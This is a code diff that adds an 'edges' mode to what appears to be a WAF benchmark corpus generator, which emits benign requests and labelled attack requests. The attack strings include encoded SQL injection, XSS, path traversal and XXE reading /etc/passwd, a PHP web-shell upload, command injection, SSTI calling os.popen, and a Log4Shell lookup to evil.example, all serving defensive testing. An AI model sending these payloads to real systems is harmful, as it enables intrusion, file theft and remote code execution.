@@ -4,6 +4,7 @@
     bench/waf_corpus.py probe > probe.jsonl          # attacks in 21 places and encodings, and benign traffic
     bench/waf_corpus.py words --seed 1 --count 3000 > words.jsonl   # benign-looking word salad
     bench/waf_corpus.py shapes > shapes.jsonl        # malformed multipart, JSON and XML bodies
+    bench/waf_corpus.py edges > edges.jsonl          # encodings and shapes at the parsers' edges
 
 `probe`: each payload of eleven families (SQLi, XSS, LFI, RFI, RCE, PHP, Java, SSTI, NoSQL,
 SSRF, session fixation) in the query (plain, `+`, double-encoded, as a name, polluted), the
@@ -228,13 +229,100 @@ def shapes():
              "body": body} for kind, name, ct, body in SHAPES]
 
 
+def edges():
+    """Encodings and request shapes at the edges of what engines parse: `;` and `[]` arguments,
+    odd cookies, JSON with Unicode escapes and vendor types, fullwidth, no-break and
+    typographic characters, CJK and emoji, IIS `%u` escapes, overlong UTF-8, XXE, attacks in
+    argument and cookie names."""
+    import urllib.parse as u
+    out = []
+
+    def r(kind, name, path, method="GET", headers=None, body=""):
+        out.append(req(kind, name, path, method, headers, body))
+
+    h = with_h
+    J = ("Content-Type", "application/json")
+    F = ("Content-Type", "application/x-www-form-urlencoded")
+    # benign edge shapes
+    r("benign","semicolon args","/s?a=1;b=2;c=select%20a%20plan")
+    r("benign","empty arg names","/s?=1&&b&c=")
+    r("benign","cookie odd","/",headers=h(("Cookie","a=1; b=2;c=3; =x; flag; q=\"quoted value\"")))
+    r("benign","cookie json","/",headers=h(("Cookie","prefs=%7B%22theme%22%3A%22dark%22%2C%22lang%22%3A%22en%22%7D")))
+    r("benign","json nested","/api","POST",h(J),json.dumps({"a":[1,2,[3,{"b":None,"c":True}]],"d":{"e":{"f":"g"}},"n":-1.5e3}))
+    r("benign","json unicode","/api","POST",h(J),'{"name":"Zo\\u00eb O\\u2019Brien","city":"K\\u00f8benhavn"}')
+    r("benign","json charset","/api","POST",h(("Content-Type","application/json; charset=utf-8")),json.dumps({"comment":"Select the best option, and/or drop me a line."}))
+    r("benign","vnd json","/api","POST",h(("Content-Type","application/vnd.api+json")),json.dumps({"data":{"type":"articles","attributes":{"title":"Rails is Omakase"}}}))
+    r("benign","form charset","/f","POST",h(("Content-Type","application/x-www-form-urlencoded; charset=UTF-8")),"name=Ann+Lee&msg="+u.quote_plus("Where are you from? I'm from Paris & I like it."))
+    r("benign","referer query","/",headers=h(("Referer","https://www.google.com/search?q=select+from+where+tutorial")))
+    r("benign","percent path","/files/a%2Fb.txt")
+    r("benign","double enc pct","/s?q=100%2525")
+    r("benign","nbsp prose","/s?q="+u.quote("price\u00a0list and\u00a0more"))
+    r("benign","emoji","/s?q="+u.quote("pizza 🍕 or pasta 🍝?"))
+    r("benign","cjk","/s?q="+u.quote("東京 ラーメン おすすめ"))
+    r("benign","long token","/s?token="+"A"*600)
+    r("benign","base64 arg","/s?d=eyJ1c2VyIjoiYWRtaW4iLCJyb2xlIjoiZWRpdG9yIn0%3D")
+    r("benign","multi same arg","/s?tag=a&tag=b&tag=c&tag=d")
+    r("benign","array args","/s?ids[]=1&ids[]=2&filter[name]=x&filter[age][gt]=3")
+    r("benign","math expr","/calc?e="+u.quote("(2+3)*4-1=19"))
+    r("benign","sql-looking prose","/s?q="+u.quote("how to select rows where the date is null"))
+    r("benign","c code","/paste","POST",h(F),"code="+u.quote_plus("int main(){ printf(\"hi\\n\"); return 0; }"))
+    r("benign","html mention","/s?q="+u.quote("what does the <b> tag do"))
+    r("benign","windows path","/s?p="+u.quote("C:\\Users\\ann\\Documents"))
+    r("benign","xml body","/x","POST",h(("Content-Type","application/xml")),"<order><id>5</id><note>rock &amp; roll</note></order>")
+    r("benign","graphql mutation","/graphql","POST",h(J),json.dumps({"query":"mutation { updateUser(id: 1, name: \"Ann\") { id } }"}))
+    r("benign","http url arg","/r?u="+u.quote("http://example.org/page?x=1&y=2"))
+    r("benign","email list","/s?to="+u.quote("a@example.com, b@example.org"))
+    r("benign","phone","/s?tel="+u.quote("+1 (555) 010-9999"))
+    r("benign","date range","/s?from=2026-01-01&to=2026-12-31")
+    # attacks with encodings/edge shapes
+    r("attack","iis unicode quote","/s?id=1%u0027%20or%201=1--")
+    r("attack","json unicode escape sqli","/api","POST",h(J),'{"id":"1\\u0027 or \\u00271\\u0027=\\u00271"}')
+    r("attack","json key xss","/api","POST",h(J),'{"<script>alert(1)</script>":"x"}')
+    r("attack","json deep xss","/api","POST",h(J),json.dumps({"a":{"b":{"c":["<img src=x onerror=alert(1)>"]}}}))
+    r("attack","vnd json sqli","/api","POST",h(("Content-Type","application/vnd.api+json")),json.dumps({"q":"1' union select password from users--"}))
+    r("attack","semicolon sqli","/s?a=1;b=1'%20union%20select%201,2--")
+    r("attack","cookie sqli","/",headers=h(("Cookie","session=abc; id=1' or '1'='1")))
+    r("attack","cookie name xss","/",headers=h(("Cookie","<script>alert(1)</script>=1")))
+    r("attack","arg name sqli","/s?1'%20union%20select%20null--=x")
+    r("attack","double enc traversal","/s?f=%252e%252e%252fetc%252fpasswd")
+    r("attack","overlong utf8 traversal","/s?f=%c0%ae%c0%ae/etc/passwd")
+    r("attack","nbsp sqli","/s?id=1%C2%A0union%C2%A0select%C2%A0password%C2%A0from%C2%A0users")
+    r("attack","tab sqli","/s?id=1%09union%09select%09password%09from%09users")
+    r("attack","comment sqli","/s?id=1/**/union/**/select/**/password/**/from/**/users")
+    r("attack","case xss","/s?q=%3CsCrIpT%3Ealert(1)%3C/ScRiPt%3E")
+    r("attack","referer sqli","/",headers=h(("Referer","http://x/?id=1' union select 1,2,3--")))
+    r("attack","ua scanner","/",headers=[["User-Agent","sqlmap/1.7.2#stable (https://sqlmap.org)"],["Accept","*/*"]])
+    r("attack","xml xxe","/x","POST",h(("Content-Type","application/xml")),'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')
+    r("attack","multipart filename php","/up","POST",h(("Content-Type","multipart/form-data; boundary=XyZ")),'--XyZ\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\nContent-Type: application/octet-stream\r\n\r\n<?php system($_GET["c"]); ?>\r\n--XyZ--\r\n')
+    r("attack","form array sqli","/f","POST",h(F),"ids[]=1&ids[]="+u.quote_plus("2) union select user,pass from admin--"))
+    r("attack","cmd backtick","/s?h="+u.quote("x`cat /etc/passwd`"))
+    r("attack","cmd ifs","/s?h="+u.quote(";cat${IFS}/etc/passwd"))
+    r("attack","ssti","/s?n="+u.quote("{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"))
+    r("attack","log4shell header","/",headers=h(("X-Api-Version","${jndi:ldap://evil.example/a}")))
+    r("attack","php wrapper","/s?page=php://filter/convert.base64-encode/resource=index.php")
+    r("attack","fullwidth xss","/s?q="+u.quote("＜script＞alert(1)＜/script＞"))
+    X = ("Content-Type", "text/xml; charset=utf-8")
+    for name, doc in [
+        ("soap 1.1", '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soap:Body><GetPrice xmlns="http://tempuri.org/"><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>'),
+        ("atom", '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>News</title><link href="http://example.org/"/></feed>'),
+        ("svg", '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="red"/></svg>'),
+        ("xhtml", '<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body><p>hi</p></body></html>'),
+        ("dtd system", '<?xml version="1.0"?><!DOCTYPE note SYSTEM "Note.dtd"><note><to>Tove</to></note>'),
+        ("dtd internal entity", '<?xml version="1.0"?><!DOCTYPE note [<!ENTITY who "Tove">]><note><to>&who;</to></note>'),
+    ]:
+        r("benign", "xml " + name, "/x", "POST", h(X), doc)
+    r("attack", "xml attribute xss", "/x", "POST", h(X), '<note><a href="javascript:alert(document.cookie)">x</a></note>')
+    r("attack", "svg onload", "/x", "POST", h(X), '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
+    return out
+
+
 def main():
     ap = argparse.ArgumentParser(usage=__doc__)
-    ap.add_argument("kind", choices=["probe", "words", "shapes"])
+    ap.add_argument("kind", choices=["probe", "words", "shapes", "edges"])
     ap.add_argument("--seed", type=int, default=1)
     ap.add_argument("--count", type=int, default=3000)
     args = ap.parse_args()
-    cases = {"probe": probe, "shapes": shapes}.get(args.kind, lambda: words(args.seed, args.count))()
+    cases = {"probe": probe, "shapes": shapes, "edges": edges}.get(args.kind, lambda: words(args.seed, args.count))()
     for case in cases:
         print(json.dumps(case, ensure_ascii=False))
 
